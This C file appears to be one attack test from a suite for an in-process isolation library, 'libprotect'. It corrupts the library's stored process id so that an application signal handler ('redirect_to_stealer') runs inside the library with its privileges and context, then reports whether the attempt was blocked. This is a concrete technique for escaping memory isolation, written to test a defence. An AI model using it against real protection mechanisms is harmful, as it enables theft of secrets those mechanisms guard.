/* libprotect tells a child that shares its memory (vfork, posix_spawn) by
 * comparing getpid() with the process id it keeps: the attacker rewrites
 * that record, so that libprotect takes its own process for such a child
 * and hands the application's sigaction to the kernel as asked.  The
 * application's handler would then run as the kernel's, for a signal
 * delivered inside the library, with the library's live context: it points
 * it at application code, which runs with the library's rights.  our_pid */
#define _GNU_SOURCE
#include "attack.h"
#include "libprotect_symbols.h"

#include "signal_inside.h"

int main(void)
{
    vault_open();
    pid_t *our_pid = libprotect_symbol("our_pid");
    if (our_pid)
        *our_pid = 1;
    signal_inside(SIGUSR1, redirect_to_stealer, vault_hold, 1000);
    blocked(redirect_ran ? "the handler ran, and the library went on as it was" : "the handler did not run");
}
